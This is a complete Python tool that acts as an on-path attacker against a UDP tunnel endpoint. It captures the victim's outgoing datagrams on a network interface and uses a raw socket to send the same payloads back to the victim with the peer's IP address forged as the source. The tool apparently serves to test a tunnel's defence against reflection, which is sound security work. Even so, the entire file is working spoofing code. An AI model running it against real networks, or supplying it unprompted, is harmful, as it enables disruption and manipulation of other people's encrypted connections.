#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""reflect - an on-path attacker that sends a tunnel end's own datagrams back
to it, with its peer's address as the source (what any host on the path can
do; no key needed).

    reflect.py IFACE VICTIM_IP:PORT PEER_IP:PORT SECONDS

Listens on IFACE (AF_PACKET with virtio headers, so that a UDP GSO run is
split into its datagrams; Ethernet only), and for every IPv4 UDP datagram from VICTIM to
PEER sends the same payload from PEER to VICTIM through a raw socket.
Prints how many it reflected. Standard library only; IPv4 only.
"""
import socket
import struct
import sys
import time

ETH_P_IP = 0x0800
SOL_PACKET = 263
PACKET_VNET_HDR = 15
PACKET_OUTGOING = 4
VNET_HDR = struct.Struct("<BBHHHH")
GSO_NONE = 0


def addr(text):
    host, _, port = text.rpartition(":")
    return socket.inet_aton(host), int(port)


def datagrams(pkt):
    """(src, sport, dst, dport, [payloads]) of an IPv4 UDP packet or run, or None."""
    _, gso_type, _, gso_size, _, _ = VNET_HDR.unpack_from(pkt)
    if pkt[VNET_HDR.size + 12:VNET_HDR.size + 14] != b"\x08\x00":
        return None
    ip = pkt[VNET_HDR.size + 14:]
    if len(ip) < 28 or ip[0] >> 4 != 4 or ip[9] != 17:
        return None
    ihl = (ip[0] & 15) * 4
    total = struct.unpack_from(">H", ip, 2)[0] or len(ip)
    sport, dport = struct.unpack_from(">HH", ip, ihl)
    data = ip[ihl + 8:len(ip) if gso_type != GSO_NONE else total]
    if gso_type != GSO_NONE and gso_size:
        parts = [data[i:i + gso_size] for i in range(0, len(data), gso_size)]
    else:
        parts = [data]
    return ip[12:16], sport, ip[16:20], dport, parts


def main(argv):
    iface, (vip, vport), (pip, pport), seconds = argv[1], addr(argv[2]), addr(argv[3]), float(argv[4])
    cap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
    cap.setsockopt(SOL_PACKET, PACKET_VNET_HDR, 1)
    cap.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    cap.bind((iface, ETH_P_IP))
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    deadline = time.monotonic() + seconds
    sent = 0
    while True:
        left = deadline - time.monotonic()
        if left <= 0:
            break
        cap.settimeout(left)
        try:
            pkt, meta = cap.recvfrom(70000)
        except socket.timeout:
            break
        if meta[2] == PACKET_OUTGOING:
            continue
        d = datagrams(pkt)
        if not d or d[0] != vip or d[1] != vport or d[2] != pip or d[3] != pport:
            continue
        for payload in d[4]:
            udp = struct.pack(">HHHH", pport, vport, 8 + len(payload), 0)  # no checksum (IPv4)
            hdr = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp) + len(payload), 0, 0, 64, 17, 0,
                              pip, vip)
            raw.sendto(hdr + udp + payload, (socket.inet_ntoa(vip), 0))
            sent += 1
    print(sent, flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
